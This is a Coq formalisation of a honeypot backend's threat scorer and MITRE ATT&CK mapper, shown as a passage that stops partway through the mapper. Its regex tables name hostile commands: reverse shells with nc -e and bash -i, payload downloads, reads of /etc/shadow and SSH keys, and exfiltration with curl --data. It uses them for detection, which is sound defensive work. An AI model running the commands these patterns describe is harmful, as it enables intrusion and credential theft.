(** * VulnServer analysis core: scoring, technique mapping, correlation

    A shallow embedding of the three analysis services of the backend
    ([services/threat_scoring.py], [services/mitre_mapper.py],
    [services/correlation_engine.py]) and of the alert manager
    ([alerting/alert_manager.py]), together with the properties the
    design document states about them and further properties of the
    code.

    Conventions of the embedding.
    - Python [str] values are [string]s; a character is a code point
      below 256 (read as Latin-1).
    - An event ([Dict[str, Any]]) is a record whose fields are the keys
      the services read; a key that may be missing is an [option].
    - A Python exception is a value [Raise e] of the [result] monad;
      the exceptions are the ones that derive from [Exception].
    - A pattern of [re] is parsed from its source text and matched by
      derivatives; [ReFacts.search_re_lang] relates the matcher to the
      language of the pattern.
    - The float arithmetic of the scorer is carried out over [Q]: its
      values are integers and halves, on which floats are exact. The
      floats of the profiler are binary64 values, with the arithmetic
      and the comparison of IEEE 754; the built-in [sum] and
      [float.__pow__], whose results depend on the Python version and
      on the C library, are parameters.
    - The event store, the clock and the functions of [datetime] are
      parameters of the functions that use them. *)

From Stdlib Require Import ZArith QArith Qround Lia Bool Ascii String List.
From Stdlib Require Import DecimalString SpecFloat.
From stdpp Require Import base option list strings sorting gmap.

Local Open Scope string_scope.

(** ** Exceptions *)

(** The exception classes the services meet; all derive from
    [Exception]. [ReError] is [re.error]. *)
Inductive exn : Type :=
  | KeyError | NameError | ValueError | TypeError | AttributeError
  | ReError | ConnectionError.

Inductive result (A : Type) : Type :=
  | Ok (a : A)
  | Raise (e : exn).
Arguments Ok {A} a.
Arguments Raise {A} e.

Definition rbind {A B : Type} (m : result A) (k : A → result B) : result B :=
  match m with
  | Ok a => k a
  | Raise e => Raise e
  end.

Notation "'let*' x ':=' m 'in' k" := (rbind m (fun x => k))
  (at level 10, x name, m at level 100, k at level 200).

(** [try: ... except Exception: handler] *)
Definition try_except {A : Type} (m : result A) (handler : exn → A) : A :=
  match m with
  | Ok a => a
  | Raise e => handler e
  end.

(** ** Text primitives of the Python runtime *)

Module Text.

Definition code (c : ascii) : N := N_of_ascii c.

Definition in_range (lo hi : N) (c : ascii) : bool :=
  (lo <=? code c)%N && (code c <=? hi)%N.

(** [str.lower] on one code point: A-Z, and the Latin-1 capitals. *)
Definition lower_char (c : ascii) : ascii :=
  if in_range 65 90 c then ascii_of_N (code c + 32)
  else if in_range 192 222 c && negb (code c =? 215)%N
       then ascii_of_N (code c + 32)
  else c.

Definition upper_char (c : ascii) : ascii :=
  if in_range 97 122 c then ascii_of_N (code c - 32)
  else if in_range 224 254 c && negb (code c =? 247)%N
       then ascii_of_N (code c - 32)
  else c.

Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (lower_char c) (lower s')
  end.

(** [str.isspace] on one code point, which is what [\s] tests. *)
Definition is_space (c : ascii) : bool :=
  in_range 9 13 c || in_range 28 32 c
  || (code c =? 133)%N || (code c =? 160)%N.

(** [sub in s] *)
Fixpoint contains (sub s : string) : bool :=
  String.prefix sub s
  || match s with
     | EmptyString => false
     | String _ s' => contains sub s'
     end.

(** [s.replace("Z", "+00:00")] *)
Fixpoint replace_Z (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      if Ascii.eqb c "Z"%char then "+00:00" +:+ replace_Z s'
      else String c (replace_Z s')
  end.

(** Truthiness of a string: [if s:] *)
Definition truthy (s : string) : bool :=
  match s with
  | EmptyString => false
  | _ => true
  end.

(** [d.get(key, "")] on a key that holds a string when present *)
Definition get_str (o : option string) : string := default "" o.

(** [if d.get(key):] on such a key *)
Definition truthy_opt (o : option string) : bool := truthy (get_str o).

(** [str(n)] for a non-negative integer *)
Definition str_of_nat (n : nat) : string :=
  NilEmpty.string_of_uint (Nat.to_uint n).

End Text.

(** ** Regular expressions: the fragment of [re] the tables use *)

Module Re.

Inductive charset : Type :=
  | CLit (c : ascii)                    (* an ordinary or escaped character *)
  | CAny                                (* [.]: anything but a newline *)
  | CSpace                              (* [\s] *)
  | CDigit                              (* [\d] *)
  | CRanges (rs : list (ascii * ascii)). (* [[a-z0-9]] *)

Inductive regex : Type :=
  | Void
  | Eps
  | Chars (cs : charset)
  | Seq (r1 r2 : regex)
  | Alt (r1 r2 : regex)
  | Star (r : regex).

Definition plus (r : regex) : regex := Seq r (Star r).
Definition opt (r : regex) : regex := Alt r Eps.

(** *** Parsing a pattern string *)

Definition is_meta (c : ascii) : bool :=
  Text.contains (String c "") ".^$*+?{}[]\|()".

Definition is_alnum (c : ascii) : bool :=
  Text.in_range 48 57 c || Text.in_range 65 90 c || Text.in_range 97 122 c.

Definition is_quantifier (c : ascii) : bool :=
  Text.contains (String c "") "*+?{".

(** The body of a bracket expression, up to the closing bracket.
    Negation, escapes and nested brackets are outside the fragment. *)
Fixpoint parse_class (s : string) (acc : list (ascii * ascii))
  : option (list (ascii * ascii) * string) :=
  match s with
  | EmptyString => None
  | String lo t =>
      if Ascii.eqb lo "]" then
        match acc with
        | [] => None
        | _ => Some (rev acc, t)
        end
      else if Text.contains (String lo "") "^\[" then None
      else
        match t with
        | String dash (String hi rest) =>
            if Ascii.eqb dash "-" && negb (Ascii.eqb hi "]")
            then if Text.contains (String hi "") "^\[" then None
                 else parse_class rest ((lo, hi) :: acc)
            else parse_class t ((lo, lo) :: acc)
        | _ => parse_class t ((lo, lo) :: acc)
        end
  end.

Definition parse_escape (c : ascii) : option charset :=
  if Ascii.eqb c "s" then Some CSpace
  else if Ascii.eqb c "d" then Some CDigit
  else if is_alnum c then None
  else Some (CLit c).

(** One postfix operator; a second one in a row is outside the fragment. *)
Definition parse_postfix (r : regex) (s : string) : option (regex * string) :=
  let after (r' : regex) (rest : string) :=
    match rest with
    | String c _ => if is_quantifier c then None else Some (r', rest)
    | EmptyString => Some (r', rest)
    end in
  match s with
  | String c rest =>
      if Ascii.eqb c "*" then after (Star r) rest
      else if Ascii.eqb c "+" then after (plus r) rest
      else if Ascii.eqb c "?" then after (opt r) rest
      else if Ascii.eqb c "{" then None
      else Some (r, s)
  | EmptyString => Some (r, s)
  end.

Definition seq_of (r1 r2 : regex) : regex :=
  match r2 with
  | Eps => r1
  | _ => Seq r1 r2
  end.

Fixpoint parse_alt (fuel : nat) (s : string) : option (regex * string) :=
  match fuel with
  | O => None
  | S fuel =>
      match parse_seq fuel s with
      | Some (r1, String c rest) =>
          if Ascii.eqb c "|" then
            match parse_alt fuel rest with
            | Some (r2, rest') => Some (Alt r1 r2, rest')
            | None => None
            end
          else Some (r1, String c rest)
      | other => other
      end
  end
with parse_seq (fuel : nat) (s : string) : option (regex * string) :=
  match fuel with
  | O => None
  | S fuel =>
      match s with
      | EmptyString => Some (Eps, s)
      | String c _ =>
          if Ascii.eqb c "|" || Ascii.eqb c ")" then Some (Eps, s)
          else
            match parse_atom fuel s with
            | Some (a, rest) =>
                match parse_postfix a rest with
                | Some (r1, rest1) =>
                    match parse_seq fuel rest1 with
                    | Some (r2, rest2) => Some (seq_of r1 r2, rest2)
                    | None => None
                    end
                | None => None
                end
            | None => None
            end
      end
  end
with parse_atom (fuel : nat) (s : string) : option (regex * string) :=
  match fuel with
  | O => None
  | S fuel =>
      match s with
      | EmptyString => None
      | String c rest =>
          if Ascii.eqb c "(" then
            match parse_alt fuel rest with
            | Some (r, String c' rest') =>
                if Ascii.eqb c' ")" then Some (r, rest') else None
            | _ => None
            end
          else if Ascii.eqb c "[" then
            match parse_class rest [] with
            | Some (rs, rest') => Some (Chars (CRanges rs), rest')
            | None => None
            end
          else if Ascii.eqb c "." then Some (Chars CAny, rest)
          else if Ascii.eqb c "\" then
            match rest with
            | String e rest' =>
                match parse_escape e with
                | Some cs => Some (Chars cs, rest')
                | None => None
                end
            | EmptyString => None
            end
          else if is_meta c then None
          else Some (Chars (CLit c), rest)
      end
  end.

(** [re.compile]: [None] stands for a pattern outside the fragment. *)
Definition compile (pattern : string) : option regex :=
  match parse_alt (4 * String.length pattern + 4) pattern with
  | Some (r, EmptyString) => Some r
  | _ => None
  end.

(** *** Matching by derivatives *)

Definition in_ranges (rs : list (ascii * ascii)) (c : ascii) : bool :=
  existsb (fun '(lo, hi) => Text.in_range (Text.code lo) (Text.code hi) c) rs.

(** [ignorecase] is the flag [re.IGNORECASE]. *)
Definition char_match (ignorecase : bool) (cs : charset) (c : ascii) : bool :=
  match cs with
  | CLit p =>
      if ignorecase then Ascii.eqb (Text.lower_char c) (Text.lower_char p)
      else Ascii.eqb c p
  | CAny => negb (Ascii.eqb c "010")
  | CSpace => Text.is_space c
  | CDigit => Text.in_range 48 57 c
  | CRanges rs =>
      in_ranges rs c
      || (ignorecase &&
          (in_ranges rs (Text.lower_char c)
           || in_ranges rs (Text.upper_char c)))
  end.

Fixpoint nullable (r : regex) : bool :=
  match r with
  | Void => false
  | Eps => true
  | Chars _ => false
  | Seq r1 r2 => nullable r1 && nullable r2
  | Alt r1 r2 => nullable r1 || nullable r2
  | Star _ => true
  end.

Definition mk_seq (r1 r2 : regex) : regex :=
  match r1 with
  | Void => Void
  | Eps => r2
  | _ => Seq r1 r2
  end.

Definition mk_alt (r1 r2 : regex) : regex :=
  match r1, r2 with
  | Void, _ => r2
  | _, Void => r1
  | _, _ => Alt r1 r2
  end.

Fixpoint deriv (ignorecase : bool) (c : ascii) (r : regex) : regex :=
  match r with
  | Void => Void
  | Eps => Void
  | Chars cs => if char_match ignorecase cs c then Eps else Void
  | Seq r1 r2 =>
      mk_alt (mk_seq (deriv ignorecase c r1) r2)
             (if nullable r1 then deriv ignorecase c r2 else Void)
  | Alt r1 r2 => mk_alt (deriv ignorecase c r1) (deriv ignorecase c r2)
  | Star r1 => mk_seq (deriv ignorecase c r1) (Star r1)
  end.

(** The whole of [s] is in the language of [r]. *)
Fixpoint matches (ignorecase : bool) (r : regex) (s : string) : bool :=
  match s with
  | EmptyString => nullable r
  | String c s' => matches ignorecase (deriv ignorecase c r) s'
  end.

(** Some prefix of [s] is in the language of [r]: [re.match]. *)
Fixpoint prefix_match (ignorecase : bool) (r : regex) (s : string) : bool :=
  nullable r
  || match s with
     | EmptyString => false
     | String c s' => prefix_match ignorecase (deriv ignorecase c r) s'
     end.

(** Some substring of [s] is in the language of [r]. *)
Fixpoint search_re (ignorecase : bool) (r : regex) (s : string) : bool :=
  prefix_match ignorecase r s
  || match s with
     | EmptyString => false
     | String _ s' => search_re ignorecase r s'
     end.

(** The language of a pattern, as the documentation of [re] describes
    it: the strings the pattern matches as a whole. *)
Inductive Lang (ignorecase : bool) : regex → string → Prop :=
  | LEps : Lang ignorecase Eps ""
  | LChars cs c :
      char_match ignorecase cs c = true →
      Lang ignorecase (Chars cs) (String c "")
  | LSeq r1 r2 s1 s2 s :
      Lang ignorecase r1 s1 → Lang ignorecase r2 s2 → s = s1 +:+ s2 →
      Lang ignorecase (Seq r1 r2) s
  | LAltL r1 r2 s : Lang ignorecase r1 s → Lang ignorecase (Alt r1 r2) s
  | LAltR r1 r2 s : Lang ignorecase r2 s → Lang ignorecase (Alt r1 r2) s
  | LStarNil r : Lang ignorecase (Star r) ""
  | LStarCons r s1 s2 s :
      Lang ignorecase r s1 → Lang ignorecase (Star r) s2 → s = s1 +:+ s2 →
      Lang ignorecase (Star r) s.

(** [bool(re.search(pattern, text, flags))] *)
Definition search (ignorecase : bool) (pattern text : string) : result bool :=
  match compile pattern with
  | Some r => Ok (search_re ignorecase r text)
  | None => Raise ReError
  end.

End Re.

(** ** Events and time stamps *)

Record Reputation : Type := {
  in_blocklist : bool;                      (* truthiness of the key *)
  abuse_confidence_score : option Z;
}.

Record Geo : Type := { country_code : option string }.

Record MitreInfo : Type := { techniques_seen : option (list string) }.

(** The keys of an event dictionary that the three services read. *)
Record Event : Type := {
  eventid : option string;
  input : option string;
  alert_msg : option string;
  connection_type : option string;
  protocol : option string;
  timestamp : option string;                (* key "timestamp" *)
  at_timestamp : option string;             (* key "@timestamp" *)
  priority : option Z;
  attack_speed : option string;
  is_persistent : bool;                     (* truthiness of the key *)
  is_bot : bool;                            (* truthiness of the key *)
  reputation : option Reputation;
  geo : option Geo;
  mitre : option MitreInfo;
}.

(** The event [{}]. *)
Definition empty_event : Event := {|
  eventid := None; input := None; alert_msg := None;
  connection_type := None; protocol := None;
  timestamp := None; at_timestamp := None;
  priority := None; attack_speed := None;
  is_persistent := false; is_bot := false;
  reputation := None; geo := None; mitre := None;
|}.

(** A [datetime]: the wall-clock reading in microseconds since the epoch
    of the calendar, and the UTC offset in microseconds when the value is
    aware ([None] for a naive value). A [timedelta] is a number of
    microseconds. *)
Record datetime : Type := {
  dt_wall : Z;
  dt_utcoffset : option Z;
}.

Definition microseconds_per_hour : Z := 3600000000.

(** [dt.hour] *)
Definition dt_hour (dt : datetime) : Z :=
  ((dt_wall dt / microseconds_per_hour) mod 24)%Z.

(** [dt - delta] *)
Definition dt_minus (dt : datetime) (delta : Z) : datetime :=
  {| dt_wall := dt_wall dt - delta; dt_utcoffset := dt_utcoffset dt |}.

(** [a - b] on datetimes, in microseconds; mixing an aware and a naive
    value is a [TypeError]. *)
Definition dt_sub (a b : datetime) : result Z :=
  match dt_utcoffset a, dt_utcoffset b with
  | None, None => Ok (dt_wall a - dt_wall b)%Z
  | Some oa, Some ob => Ok ((dt_wall a - oa) - (dt_wall b - ob))%Z
  | _, _ => Raise TypeError
  end.

(** ** Floats *)

(** A Python [float] is a binary64 value: 53 bits of precision, the
    infinities at exponent 1024. The operations are those of IEEE 754,
    each rounding its exact result to the nearest value, ties to
    even. *)
Module Float64.

Definition float : Type := spec_float.

Definition prec : Z := 53.
Definition emax : Z := 1024.

(** An [int] read as a mantissa with exponent 0, before any rounding. *)
Definition exact (n : Z) : float :=
  match n with
  | Z0 => S754_zero false
  | Zpos m => S754_finite false m 0
  | Zneg m => S754_finite true m 0
  end.

(** [float(n)], which is also what an [int] operand of a float
    operation becomes. *)
Definition of_int (n : Z) : float := binary_normalize prec emax n 0 false.

(** [a / b] on two [int]s, [b] not zero: the quotient, rounded once. *)
Definition int_truediv (a b : Z) : float :=
  SFdiv prec emax (exact a) (exact b).

(** [x + y], [x - y] and [x * y] *)
Definition add (x y : float) : float := SFadd prec emax x y.
Definition sub (x y : float) : float := SFsub prec emax x y.
Definition mul (x y : float) : float := SFmul prec emax x y.

(** [x / y], [y] not zero *)
Definition truediv (x y : float) : float := SFdiv prec emax x y.

(** [x < y]; it is false when an operand is not a number. *)
Definition ltb (x y : float) : bool := SFltb x y.

(** The literals [1.0] and [0.2]. *)
Definition one : float := of_int 1.
Definition one_fifth : float := int_truediv 2 10.

End Float64.

(** [delta.total_seconds()]: the microseconds divided by [10**6], an
    [int] by an [int]. *)
Definition total_seconds (delta : Z) : Float64.float :=
  Float64.int_truediv delta 1000000.

(** [sorted(events, key=lambda x: x.get("timestamp", ""))]: the stable
    sort by the time stamp, a missing one counting as the empty string. *)
Definition timestamp_key (event : Event) : string :=
  Text.get_str (timestamp event).

Fixpoint insert_by_timestamp (event : Event) (sorted : list Event)
  : list Event :=
  match sorted with
  | [] => [event]
  | e :: rest =>
      if String.leb (timestamp_key event) (timestamp_key e)
      then event :: e :: rest
      else e :: insert_by_timestamp event rest
  end.

Definition sorted_by_timestamp (events : list Event) : list Event :=
  foldr insert_by_timestamp [] events.

(** ** Threat scoring engine *)

Module Scoring.

Local Open Scope Z_scope.

Definition ATTACK_TYPE_SCORES : gmap string Z :=
  list_to_map [
    ("port_scan", 5); ("service_enum", 8); ("vuln_scan", 10);
    ("brute_force_failed", 15); ("brute_force_success", 40);
    ("exploit_attempt", 30); ("exploit_success", 60);
    ("command_execution", 25); ("script_execution", 30);
    ("malware_execution", 70);
    ("backdoor_install", 65); ("scheduled_task", 45);
    ("service_creation", 50);
    ("sudo_attempt", 35); ("root_access", 55);
    ("log_deletion", 40); ("process_injection", 60);
    ("password_dump", 70); ("key_logging", 65);
    ("network_discovery", 20); ("system_info", 15);
    ("remote_service", 50); ("ssh_tunneling", 55);
    ("data_staged", 60); ("screenshot", 40);
    ("c2_connection", 75); ("encrypted_channel", 70);
    ("data_exfil", 85); ("dns_tunneling", 80);
    ("ransomware", 95); ("crypto_mining", 50);
    ("resource_hijacking", 45)
  ].

Definition HIGH_RISK_COUNTRIES : gmap string Z :=
  list_to_map [
    ("CN", 15); ("RU", 15); ("KP", 20); ("IR", 18); ("VN", 10); ("BR", 8)
  ].

(** In insertion order, which is the order the loop visits. *)
Definition COMMAND_PATTERNS : list (string * (string * Z)) := [
  ("(wget|curl)\s+http", ("malware_download", 30));
  ("chmod\s+\+x", ("make_executable", 25));
  ("(nc|netcat).*-e", ("reverse_shell", 70));
  ("bash\s+-i", ("interactive_shell", 65));
  ("/etc/(passwd|shadow)", ("credential_theft", 60));
  ("(cat|grep).*\.ssh", ("ssh_key_theft", 55));
  ("crontab", ("persistence", 45));
  ("(kill|pkill).*log", ("anti_forensics", 40));
  ("uname|whoami|id", ("reconnaissance", 10));
  ("iptables|firewall", ("defense_evasion", 35));
  ("(python|perl|ruby).*-c", ("scripting", 30));
  ("base64.*decode", ("obfuscation", 35))
].

Record ScoreBreakdown : Type := {
  base_score : Z;
  attack_type_score : Z;
  sophistication_score : Z;
  success_multiplier : Q;
  ip_reputation_score : Z;
  geo_risk_score : Z;
  temporal_score : Z;
  final_score : Z;
}.

Record ScoreResult : Type := {
  threat_score : Z;
  severity : string;
  attack_type : string;
  breakdown : ScoreBreakdown;
  recommendations : list string;
}.

(** [int(x)]: truncation towards zero. *)
Definition py_int (x : Q) : Z :=
  if Qle_bool 0 x then Qfloor x else Qceiling x.

(** [round(x)]: to the nearest integer, a tie going to the even one. *)
Definition py_round (x : Q) : Z :=
  let f := Qfloor x in
  match (x - inject_Z f ?= 1 # 2)%Q with
  | Lt => f
  | Gt => f + 1
  | Eq => if Z.even f then f else f + 1
  end.

(** The loop over [COMMAND_PATTERNS.items()] with its early return. *)
Fixpoint first_command_pattern (table : list (string * (string * Z)))
    (command : string) : result (option string) :=
  match table with
  | [] => Ok None
  | (pattern, (attack_type, _)) :: rest =>
      let* hit := Re.search true pattern command in
      if hit then Ok (Some attack_type)
      else first_command_pattern rest command
  end.

Definition _identify_attack_type (event : Event) : result string :=
  let event_id := Text.get_str (eventid event) in
  if Text.contains "login.failed" event_id then Ok "brute_force_failed"
  else if Text.contains "login.success" event_id then Ok "brute_force_success"
  else if Text.contains "file_download" event_id then Ok "malware_download"
  else if Text.contains "command.input" event_id then
    let command := Text.lower (Text.get_str (input event)) in
    let* found := first_command_pattern COMMAND_PATTERNS command in
    Ok (default "command_execution" found)
  else if bool_decide (connection_type event = Some "smb")
  then Ok "exploit_attempt"
  else
    let alert := Text.lower (Text.get_str (alert_msg event)) in
    if Text.contains "brute force" alert then Ok "brute_force_attempt"
    else if Text.contains "port scan" alert then Ok "port_scan"
    else if Text.contains "exploit" alert then Ok "exploit_attempt"
    else Ok "unknown".

Definition _assess_sophistication (event : Event) : result Z :=
  let sophistication := 0 in
  let command := Text.lower (Text.get_str (input event)) in
  let* obfuscation := Re.search false "base64|xxd|hex" command in
  let sophistication :=
    if obfuscation then sophistication + 15 else sophistication in
  let* custom_tool := Re.search false "\./[a-z0-9]+" command in
  let sophistication :=
    if custom_tool then sophistication + 10 else sophistication in
  let* encryption := Re.search false "openssl|gpg|aes" command in
  let sophistication :=
    if encryption then sophistication + 12 else sophistication in
  let* anti_forensics := Re.search false "shred|wipe|srm" command in
  let sophistication :=
    if anti_forensics then sophistication + 20 else sophistication in
  let mitre_techniques :=
    default [] (techniques_seen (default {| techniques_seen := None |}
                                         (mitre event))) in
  let sophistication :=
    if (3 <? Z.of_nat (length mitre_techniques))
    then sophistication + 15 else sophistication in
  Ok (Z.min 30 sophistication).

Definition _is_successful_attack (event : Event) : bool :=
  let event_id := Text.get_str (eventid event) in
  if Text.contains "login.success" event_id then true
  else if Text.contains "command.input" event_id then true
  else if Text.contains "file_download" event_id
          || Text.contains "download.complete" event_id then true
  else if bool_decide (priority event = Some 1) then true
  else false.

Definition _assess_ip_reputation (event : Event) : Z :=
  let reputation_score := 0 in
  let rep :=
    default {| in_blocklist := false; abuse_confidence_score := None |}
            (reputation event) in
  let reputation_score :=
    if in_blocklist rep then reputation_score + 20 else reputation_score in
  let abuse_score := default 0 (abuse_confidence_score rep) in
  let reputation_score :=
    if 75 <? abuse_score then reputation_score + 15
    else if 50 <? abuse_score then reputation_score + 10
    else if 25 <? abuse_score then reputation_score + 5
    else reputation_score in
  let reputation_score :=
    if is_bot event then reputation_score + 10 else reputation_score in
  Z.min 25 reputation_score.

Definition _score_to_severity (score : Z) : string :=
  if 76 <=? score then "critical"
  else if 51 <=? score then "high"
  else if 26 <=? score then "medium"
  else "low".

Definition _generate_recommendations (score : Z) (attack_type : string)
  : list string :=
  let recommendations :=
    if 76 <=? score then
      ["IMMEDIATE ACTION REQUIRED"; "Block source IP at firewall";
       "Initiate incident response procedure";
       "Preserve logs and artifacts for forensics";
       "Notify security team and management"]
    else if 51 <=? score then
      ["Block source IP"; "Monitor for related activity";
       "Update IDS signatures"; "Review and patch targeted services"]
    else if 26 <=? score then
      ["Add to watchlist"; "Monitor for escalation";
       "Review authentication logs"]
    else
      ["Log for intelligence"; "No immediate action required"] in
  let recommendations :=
    if bool_decide (attack_type ∈ ["malware_download"; "malware_execution"])
    then (recommendations ++ ["Submit malware sample to VirusTotal";
                              "Update antivirus signatures"])%list
    else recommendations in
  let recommendations :=
    if bool_decide (attack_type ∈ ["brute_force_success"; "credential_theft"])
    then (recommendations ++ ["Force password reset for affected accounts";
                              "Enable MFA if not already active"])%list
    else recommendations in
  recommendations.

Section WithClock.

(** [datetime.fromisoformat], which raises [ValueError] on a string
    it does not accept. *)
Variable fromisoformat : string → result datetime.

Definition _assess_temporal_patterns (event : Event) : Z :=
  let temporal_score := 0 in
  let temporal_score :=
    if bool_decide (attack_speed event = Some "rapid")
    then temporal_score + 10 else temporal_score in
  let temporal_score :=
    if is_persistent event then temporal_score + 15 else temporal_score in
  let temporal_score :=
    match at_timestamp event with
    | Some ts =>
        if Text.truthy ts then
          try_except
            (let* dt := fromisoformat (Text.replace_Z ts) in
             let hour := dt_hour dt in
             Ok (if (0 <=? hour) && (hour <? 6)
                 then temporal_score + 5 else temporal_score))
            (fun _ => temporal_score)
        else temporal_score
    | None => temporal_score
    end in
  Z.min 20 temporal_score.

Definition calculate_score (event : Event) : result ScoreResult :=
  let* attack_type := _identify_attack_type event in
  let attack_type_score := default 10 (ATTACK_TYPE_SCORES !! attack_type) in
  let* sophistication_score := _assess_sophistication event in
  let success_multiplier :=
    if _is_successful_attack event then (3 # 2)%Q else 1%Q in
  let ip_reputation_score := _assess_ip_reputation event in
  let country := country_code (default {| country_code := None |}
                                       (geo event)) in
  let geo_risk_score :=
    match country with
    | Some cc => default 0 (HIGH_RISK_COUNTRIES !! cc)
    | None => 0
    end in
  let temporal_score := _assess_temporal_patterns event in
  let base :=
    (inject_Z (attack_type_score + sophistication_score)
     * success_multiplier)%Q in
  let bonus := ip_reputation_score + geo_risk_score + temporal_score in
  let final_score := Z.min 100 (py_int (base + inject_Z bonus)%Q) in
  let score_breakdown := {|
    base_score := 0;
    attack_type_score := attack_type_score;
    sophistication_score := sophistication_score;
    success_multiplier := success_multiplier;
    ip_reputation_score := ip_reputation_score;
    geo_risk_score := geo_risk_score;
    temporal_score := temporal_score;
    final_score := final_score;
  |} in
  Ok {|
    threat_score := final_score;
    severity := _score_to_severity final_score;
    attack_type := attack_type;
    breakdown := score_breakdown;
    recommendations := _generate_recommendations final_score attack_type;
  |}.

End WithClock.

(** *** The final score as the design document writes it *)

Definition clamp (lo hi v : Z) : Z := Z.max lo (Z.min hi v).

(** [(attack_type_score + sophistication_score) * success_multiplier
     + ip_reputation_score + geo_risk_score + temporal_score] *)
Definition weighted_sum (b : ScoreBreakdown) : Q :=
  (inject_Z (attack_type_score b + sophistication_score b)
   * success_multiplier b
   + inject_Z (ip_reputation_score b) + inject_Z (geo_risk_score b)
   + inject_Z (temporal_score b))%Q.

(** The document's invariant: the sum is rounded. *)
Definition rounded_final_score (b : ScoreBreakdown) : Z :=
  clamp 0 100 (py_round (weighted_sum b)).

(** What [int] does instead: the sum is cut to its integer part. *)
Definition truncated_final_score (b : ScoreBreakdown) : Z :=
  clamp 0 100 (Qfloor (weighted_sum b)).

(** The order of the severity labels. *)
Definition severity_rank (label : string) : nat :=
  if String.eqb label "low" then 0
  else if String.eqb label "medium" then 1
  else if String.eqb label "high" then 2
  else 3.

End Scoring.

(** ** MITRE ATT&CK mapper *)

Module Mitre.

Definition TACTICS : gmap string string :=
  list_to_map [
    ("TA0001", "Initial Access");
    ("TA0002", "Execution");
    ("TA0003", "Persistence");
    ("TA0004", "Privilege Escalation");
    ("TA0005", "Defense Evasion");
    ("TA0006", "Credential Access");
    ("TA0007", "Discovery");
    ("TA0008", "Lateral Movement");
    ("TA0009", "Collection");
    ("TA0011", "Command and Control");
    ("TA0010", "Exfiltration");
    ("TA0040", "Impact");
    ("TA0043", "Reconnaissance")
  ].

Record TechniqueData : Type := {
  name : string;
  tactic : string;
  patterns : list string;
}.

Definition technique (n t : string) (ps : list string) : TechniqueData :=
  {| name := n; tactic := t; patterns := ps |}.

(** In insertion order, which is the order the loop visits. *)
Definition TECHNIQUE_MAPPINGS : list (string * TechniqueData) := [
  ("T1078", technique "Valid Accounts" "TA0001"
     ["login\.success"; "ssh.*password"]);
  ("T1110", technique "Brute Force" "TA0006"
     ["login\.failed"; "brute.*force"; "hydra"; "medusa"]);
  ("T1059", technique "Command and Scripting Interpreter" "TA0002"
     ["bash"; "sh\s"; "python"; "perl"; "command\.input"]);
  ("T1053", technique "Scheduled Task/Job" "TA0003"
     ["crontab"; "at\s"; "systemd"]);
  ("T1136", technique "Create Account" "TA0003"
     ["useradd"; "adduser"; "passwd"]);
  ("T1548", technique "Abuse Elevation Control Mechanism" "TA0004"
     ["sudo"; "su\s"; "pkexec"]);
  ("T1070", technique "Indicator Removal on Host" "TA0005"
     ["rm.*log"; "shred"; "history\s-c"; "unset\sHISTFILE"]);
  ("T1027", technique "Obfuscated Files or Information" "TA0005"
     ["base64"; "xxd"; "openssl\senc"; "gzip"]);
  ("T1003", technique "OS Credential Dumping" "TA0006"
     ["/etc/passwd"; "/etc/shadow"; "mimikatz"; "dump.*cred"]);
  ("T1552", technique "Unsecured Credentials" "TA0006"
     ["\.ssh/"; "id_rsa"; "\.aws/"; "\.docker/config"]);
  ("T1082", technique "System Information Discovery" "TA0007"
     ["uname"; "hostname"; "cat\s/etc/issue"; "lsb_release"]);
  ("T1033", technique "System Owner/User Discovery" "TA0007"
     ["whoami"; "id\s"; "w\s"; "who\s"]);
  ("T1046", technique "Network Service Discovery" "TA0007"
     ["netstat"; "ss\s"; "lsof.*LISTEN"]);
  ("T1057", technique "Process Discovery" "TA0007"
     ["ps\s"; "top\s"; "htop"]);
  ("T1021", technique "Remote Services" "TA0008"
     ["ssh\s.*@"; "scp\s"; "rsync"]);
  ("T1005", technique "Data from Local System" "TA0009"
     ["cat\s"; "head\s"; "tail\s"; "grep\s.*-r"]);
  ("T1560", technique "Archive Collected Data" "TA0009"
     ["tar\s.*czf"; "zip\s"; "7z\s"]);
  ("T1071", technique "Application Layer Protocol" "TA0011"
     ["curl"; "wget"; "http"]);
  ("T1105", technique "Ingress Tool Transfer" "TA0011"
     ["wget\shttp"; "curl.*-o"; "scp.*download"]);
  ("T1572", technique "Protocol Tunneling" "TA0011"
     ["ssh.*-L"; "ssh.*-R"; "ssh.*-D"]);
  ("T1041", technique "Exfiltration Over C2 Channel" "TA0010"
     ["curl.*--data"; "wget.*--post"]);
  ("T1048", technique "Exfiltration Over Alternative Protocol" "TA0010"
     ["nc\s.*<"; "ncat.*--send-only"]);
  ("T1486", technique "Data Encrypted for Impact" "TA0040"
     ["encrypt"; "ransom"; "\.locked"]);
  ("T1496", technique "Resource Hijacking" "TA0040"
     ["xmrig"; "minerd"; "cpuminer"; "cryptonight"]);
  ("T1531", technique "Account Access Removal" "TA0040"
     ["userdel"; "passwd.*-l"]);
  ("T1595", technique "Active Scanning" "TA0043"
     ["nmap"; "masscan"; "port.*scan"])
].

Record TechniqueDetail : Type := {
  technique_id : string;
  technique_name : string;
  tactic_id : string;
  tactic_name : string;
  matched_pattern : string;
}.

Record Mapped : Type := {
  tactics : list string;
  techniques : list string;
  technique_details : list TechniqueDetail;
}.

Definition empty_mapped : Mapped :=
  {| tactics := []; techniques := []; technique_details := [] |}.

(** [f"{event_id} {command} {alert_msg}".lower()] *)
Definition combined_text (event : Event) : string :=
  Text.lower (Text.get_str (eventid event) +:+ " "
              +:+ Text.get_str (input event) +:+ " "
              +:+ Text.get_str (alert_msg event)).

(** The inner loop up to its [break]: the first pattern that matches. *)
Fixpoint first_matching_pattern (ps : list string) (text : string)
  : result (option string) :=
  match ps with
  | [] => Ok None
  | pattern :: rest =>
      let* hit := Re.search true pattern text in
      if hit then Ok (Some pattern)
      else first_matching_pattern rest text
  end.

(** The body of the [if re.search(...)] branch. *)
Definition record_match (mapped : Mapped) (tid : string)
    (data : TechniqueData) (pattern : string) : result Mapped :=
  if bool_decide (tid ∈ techniques mapped) then Ok mapped
  else
    let techniques' := (techniques mapped ++ [tid])%list in
    let tid_tactic := tactic data in
    let tactics' :=
      if bool_decide (tid_tactic ∈ tactics mapped) then tactics mapped
      else (tactics mapped ++ [tid_tactic])%list in
    match TACTICS !! tid_tactic with
    | None => Raise KeyError
    | Some tname =>
        Ok {| tactics := tactics';
              techniques := techniques';
              technique_details :=
                (technique_details mapped ++
                 [{| technique_id := tid;
                     technique_name := name data;
                     tactic_id := tid_tactic;
                     tactic_name := tname;
                     matched_pattern := pattern |}])%list |}
    end.

